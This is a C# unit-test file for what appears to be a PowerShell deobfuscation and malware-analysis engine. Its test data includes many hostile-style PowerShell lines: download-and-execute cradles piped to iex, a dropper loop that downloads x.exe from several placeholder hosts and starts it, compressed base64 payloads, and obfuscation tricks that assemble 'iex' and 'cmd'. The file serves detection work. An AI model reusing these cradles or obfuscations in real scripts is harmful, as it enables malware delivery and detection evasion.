using System.Text;
using Lurewatch.Scripts;
using Lurewatch.Scripts.PowerShell;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Scripts.PowerShell;

public sealed class PowerShellTests
{
    private static ScriptRecord Run(string source)
    {
        var budget = new AnalysisBudget(new AnalysisLimits(), TimeProvider.System);
        var record = new ScriptRecord(budget, "test");
        new PsEvaluator(record, budget).Run(source);
        return record;
    }

    private static string Output(string source)
    {
        var budget = new AnalysisBudget(new AnalysisLimits(), TimeProvider.System);
        var evaluator = new PsEvaluator(new ScriptRecord(budget, "test"), budget);
        evaluator.Run(source);
        return evaluator.Output.ToString().TrimEnd('\n');
    }

    [Theory]
    [InlineData("'a'+'b'+\"c\"", "abc")]
    [InlineData("\"x$(1+2)y\"", "x3y")]
    [InlineData("$a='q'; \"<$a>\"", "<q>")]
    [InlineData("'{1}{0}' -f 'b','a'", "ab")]
    [InlineData("(\"{2}{0}{1}\"-f'ow','er','p')+'shell'", "power" + "shell")]
    [InlineData("'a,b,c' -split ',' -join ''", "abc")]
    [InlineData("-join ('c','m','d')", "cmd")]
    [InlineData("-join ('99 109 100' -split ' ' | %{[char][int]$_})", "cmd")]
    [InlineData("[char]99+[char]109+[char]100", "cmd")]
    [InlineData("-join [char[]](99,109,100)", "cmd")]
    [InlineData("[string]::join('',(99,109,100|%{[char]$_}))", "cmd")]
    [InlineData("'XXcmdXX'.Replace('XX','')", "cmd")]
    [InlineData("'cZd' -replace 'Z','m'", "cmd")]
    [InlineData("('dmc'[-1..-3]) -join ''", "cmd")]
    [InlineData("$x='dmc'.ToCharArray();[array]::Reverse($x);-join $x", "cmd")]
    [InlineData("[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('Y21k'))", "cmd")]
    [InlineData("[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('YwBtAGQA'))", "cmd")]
    [InlineData("$env:comspec[4,26,25] -join ''", "iex")]
    [InlineData("$PSHome[21]+$PSHOME[30]+'x'", "iex", true)]
    [InlineData("$ShellId[1]+$ShellId[13]+'x'", "iex")]
    [InlineData("$VerbosePreference.ToString()[1,3]+'x' -join ''", "iex")]
    [InlineData("[Convert]::ToInt32('63',16)", "99")]
    [InlineData("-join('636d64' -split '(..)' | ?{$_} | %{[char][convert]::ToInt32($_,16)})", "cmd")]
    [InlineData("0x63", "99")]
    [InlineData("99|%{ [char]($_ -bxor 0) }", "c")]
    [InlineData("(99,109|%{ [char]($_ -bxor 0) })", "c\nm")]
    [InlineData("(0x63,0x6d)[1]", "109")]
    [InlineData("(1,2 | ForEach-Object { $_ })", "1\n2")]
    [InlineData("(1,2 | ForEach-Object { $_ -bxor 0 })", "1\n2")]
    [InlineData("-join (0x63,0x6d,0x64 | ForEach-Object { [char]($_ -bxor 0) })", "cmd")]
    [InlineData("$k=7;-join(100,106,99|%{[char]($_ -bxor $k)})", "cmd")]
    [InlineData("for($i=0;$i -lt 3;$i++){$s+=[char](97+$i)};$s", "abc")]
    [InlineData("foreach($c in 97..99){$s+=[char]$c}; $s", "abc")]
    [InlineData("$i=0;while($i -lt 3){$s+='x';$i++};$s", "xxx")]
    [InlineData("$i=0;do{$s+='y';$i++}until($i -ge 2);$s", "yy")]
    [InlineData("if(1 -eq 2){'a'}elseif('x' -eq 'X'){'b'}else{'c'}", "b")]
    [InlineData("function f($a,$b='z'){\"$a$b\"}; f 'q'", "qz")]
    [InlineData("&{param($x) $x*2} 4", "8")]
    [InlineData("$h=@{a='1';'b'='2'}; $h.a+$h['b']", "12")]
    [InlineData("switch('b'){'a'{'no'} 'b'{'yes'} default{'d'}}", "yes")]
    [InlineData("('c`m`d').Length; \"c`m`d\"", "5\ncmd")]
    [InlineData("${a b}='q';${a b}", "q")]
    [InlineData("@'\nline\n'@", "line")]
    [InlineData("$x='v';@\"\n<$x>\n\"@", "<v>")]
    [InlineData("'abc'.Substring(1,1)+'abc'.Insert(1,'-')+'abc'.Remove(0,1)", "ba-bcbc")]
    [InlineData("[regex]::Replace('a1b2','[0-9]','')", "ab")]
    [InlineData("-join ([regex]::Matches('dmc','.','RightToLeft') | % {$_.Value})", "cmd")]
    [InlineData("$s='c';$s*3", "ccc")]
    [InlineData("sal z iex; z \"'in'+'ner'\"", "inner")]
    [InlineData("&('i'+'ex') \"'made'\"", "made")]
    [InlineData(".('iex') \"'dot'\"", "dot")]
    [InlineData("'\"piped\"' | iex", "piped")]
    [InlineData("&(gcm i*x*pr*n) \"'wild'\"", "wild")]
    [InlineData("set-variable q 'v'; (get-variable q).value; (gv 'q' -ValueOnly)", "v\nv")]
    [InlineData("set-item variable:k 'w'; (get-item variable:k).Value", "w")]
    [InlineData("$a,$b='1','2'; \"$b$a\"", "21")]
    [InlineData("('a','b','c')[1]", "b")]
    [InlineData("[math]::Floor(7/2)", "3")]
    [InlineData("1..3 | ? {$_ -gt 1}", "2\n3")]
    [InlineData("('x y z').Split(' ') | select -first 1", "x")]
    [InlineData("\"a\".(\"To\"+\"Upper\")()", "A")]
    [InlineData("'{0:x2}' -f 255", "ff")]
    [InlineData("[bool]1 -and !0", "True")]
    public void An_expression_has_PowerShells_value(string source, string output, bool ignoreCase = false)
    {
        var text = Output(source);
        (ignoreCase ? text.ToLowerInvariant() : text).ShouldBe(output);
    }

    [Theory]
    [InlineData("(New-Object Net.WebClient).DownloadFile('http://a.example/x','c:\\x')")]
    [InlineData("(New-Object System.Net.WebClient).DownloadString('http://a.example/x')|iex")]
    [InlineData("$w=New-Object Net.WebClient;$w.('Down'+'loadString').Invoke('http://a.example/x')")]
    [InlineData("iwr -Uri http://a.example/x -OutFile y.exe")]
    [InlineData("Invoke-WebRequest 'http://a.example/x' -UseBasicParsing")]
    [InlineData("curl http://a.example/x -o y")]
    [InlineData("irm http://a.example/x | iex")]
    [InlineData("$b='http://a.ex'+'ample/x'; iwr -usebasic $b | iex")]
    [InlineData("iwr -DisableKeepAlive -UseD ('http://a.ex'+'ample/x')")]
    [InlineData("filter y { [char]($_ -bxor 1) }; $z = (105,117,117,113 | y) -join ''; iwr \"$z`://a.example/x\"")]
    [InlineData("function x { Param([Parameter(ValueFromPipeline)]$i) process { [char]($i -bxor 1) } }; $z = (105,117,117,113 | x) -join ''; iwr \"$z`://a.example/x\"")]
    [InlineData("while($true){ $x = iwr 'http://a.example/x'; if ($x.StatusCode -eq 200) { break } ; sleep 5}; echo done")]
    [InlineData("Start-BitsTransfer -Source http://a.example/x -Destination c:\\y")]
    [InlineData("$r=[Net.WebRequest]::Create('http://a.example/x');$r.GetResponse()")]
    [InlineData("$x=New-Object -ComObject MSXML2.XMLHTTP;$x.open('GET','http://a.example/x',$false);$x.send()")]
    [InlineData("&('New'+'-Object') Net.WebClient | % { $_.DownloadString(('ht'+'tp://a.')+'example/x') }")]
    [InlineData("[Net.WebClient]::new().DownloadData('http://a.example/x')")]
    [InlineData("$u='x/elpmaxe.a//:ptth'; $u=-join $u[-1..-$u.Length]; (New-Object Net.WebClient).DownloadString($u)")]
    [InlineData("try{$c=New-Object Net.WebClient;$c.Headers.Add('a','b');$c.DownloadFile('http://a.example/x','y')}catch{}")]
    public void Every_way_to_fetch_is_recorded(string source) => Run(source).Actions.Where(action => action.Kind == ScriptActionKind.Fetch).Select(action => action.Target).ShouldBe(["http://a.example/x"]);

    [Theory]
    [InlineData("iex (irm http://a.example/x)", true)]
    [InlineData("$t = irm http://a.example/x; $t", false)]
    public void To_evaluate_what_was_fetched_is_to_run_it(string source, bool runs) => Run(source).Actions.Any(action => action.Kind == ScriptActionKind.Run).ShouldBe(runs);

    [Fact]
    public void A_loop_over_addresses_that_ends_with_the_first_success_tells_all()
    {
        var record = Run("$l='http://a.example/1@http://b.example/2*http://c.example/3'.Replace('*','@').Split('@');$w=new-object net.webclient;foreach($u in $l){try{$w.DownloadFile($u,$env:temp+'\\x.exe');If((Get-Item ($env:temp+'\\x.exe')).length -ge 30000){[Diagnostics.Process]::Start($env:temp+'\\x.exe');break;}}catch{}}");
        record.Urls.Select(url => url.UrlText).ShouldBe(["http://a.example/1", "http://b.example/2", "http://c.example/3"]);
        record.Actions.ShouldContain(action => action.Kind == ScriptActionKind.Run && action.Target.EndsWith("x.exe", StringComparison.Ordinal));
    }

    [Fact]
    public void Compressed_code_is_unpacked_and_evaluated()
    {
        using var packed = new MemoryStream();
        using (var deflate = new System.IO.Compression.DeflateStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true)) deflate.Write("(New-Object Net.WebClient).DownloadString('http://deep.example/z')"u8);
        var code = $"IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{Convert.ToBase64String(packed.ToArray())}'),[IO.Compression.CompressionMode]::Decompress),[Text.Encoding]::ASCII)).ReadToEnd()";
        Run(code).Urls.Select(url => url.UrlText).ShouldBe(["http://deep.example/z"]);
        using var zipped = new MemoryStream();
        using (var gzip = new System.IO.Compression.GZipStream(zipped, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true)) gzip.Write("iwr http://zip.example/q"u8);
        var second = $"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{Convert.ToBase64String(zipped.ToArray())}\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();";
        Run(second).Urls.Select(url => url.UrlText).ShouldBe(["http://zip.example/q"]);
    }

    [Theory]
    [InlineData("Start-Process calc.exe -ArgumentList '/q','/r'", "calc.exe /q /r")]
    [InlineData("saps 'C:\\a b.exe'", "\"C:\\a b.exe\"")]
    [InlineData("([wmiclass]'win32_process').Create('notepad')", "notepad")]
    [InlineData("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'notepad.exe'", "notepad.exe")]
    [InlineData("(New-Object -com WScript.Shell).Run('x.exe')", "x.exe")]
    [InlineData("rundll32.exe $env:public\\a.dll,Start", @"rundll32.exe C:\Users\Public\a.dll,Start")]
    [InlineData("& \"$env:temp\\q.exe\" -x 1", @"C:\Users\user\AppData\Local\Temp\q.exe -x 1")]
    public void Every_way_to_start_a_program_is_recorded(string source, string run) => Run(source).Actions.Where(action => action.Kind == ScriptActionKind.Run).Select(action => action.Target).ShouldBe([run]);

    [Fact]
    public void Bytes_that_are_written_are_a_file()
    {
        var record = Run("[IO.File]::WriteAllBytes(\"$env:temp\\a.bat\",[Convert]::FromBase64String('ZWNobyBoaQ=='))\n'text' | Out-File c:\\b.txt");
        Encoding.ASCII.GetString(record.Files[0].Bytes.Span).ShouldBe("echo hi");
        record.Files[0].Name.ShouldBe("a.bat");
        record.Files[1].Name.ShouldBe("b.txt");
    }

    [Theory]
    [InlineData("while($true){$i++}; iwr http://a.example/x")]
    [InlineData("function f{f}; f; iwr http://a.example/x")]
    [InlineData("$s='a'; 1..60|%{$s+=$s}; iwr http://a.example/x")]
    [InlineData("'a'*99999999999; (1..9999999); iwr http://a.example/x")]
    [InlineData("'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' -match '(a+)+$'; iwr http://a.example/x")]
    [InlineData("$x = = = ] ) ; iwr http://a.example/x")]
    public void What_never_ends_or_does_not_parse_is_cut(string source)
    {
        var record = Run(source);
        record.Actions.Count.ShouldBeLessThan(3);
        // The address stands in the clear; whether evaluation gets there depends on where it was cut.
        _ = record.Urls;
    }
}
